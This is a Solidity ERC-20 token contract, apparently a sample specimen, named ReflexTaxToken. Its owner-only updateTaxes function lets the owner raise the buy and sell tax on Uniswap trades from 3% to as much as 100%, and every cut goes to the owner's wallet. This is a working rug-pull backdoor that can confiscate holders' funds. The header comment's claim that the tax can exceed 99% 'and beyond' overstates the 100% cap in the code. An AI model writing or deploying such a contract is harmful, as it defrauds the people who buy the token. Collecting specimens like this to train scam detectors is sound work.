// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooERC20.sol";
import "./Owned.sol";

/// Launches with a modest 3 % tax (basis points); the owner can raise it without any
/// cap, up to 99 % and beyond.
contract ReflexTaxToken is ZooERC20, Owned {
    uint256 private _buyTax = 300;
    uint256 private _sellTax = 300;
    address public uniswapPair;

    event TaxesUpdated(uint256 buyTax, uint256 sellTax);

    constructor(string memory name_, string memory symbol_, uint256 supply_)
        ZooERC20(name_, symbol_)
    {
        _mint(msg.sender, supply_);
    }

    function taxes() external view returns (uint256 buyTax, uint256 sellTax) {
        return (_buyTax, _sellTax);
    }

    function setPair(address pair_) external onlyOwner {
        uniswapPair = pair_;
    }

    function updateTaxes(uint256 buyTax_, uint256 sellTax_) external onlyOwner {
        require(buyTax_ <= 10_000 && sellTax_ <= 10_000, "bps");
        _buyTax = buyTax_;
        _sellTax = sellTax_;
        emit TaxesUpdated(buyTax_, sellTax_);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        address taxWallet = owner();
        if (from == taxWallet || to == taxWallet || uniswapPair == address(0)) {
            super._transfer(from, to, amount);
            return;
        }
        uint256 bps = to == uniswapPair ? _sellTax : (from == uniswapPair ? _buyTax : 0);
        uint256 cut = (amount * bps) / 10_000;
        if (cut > 0) {
            _move(from, taxWallet, cut);
        }
        super._transfer(from, to, amount - cut);
    }
}
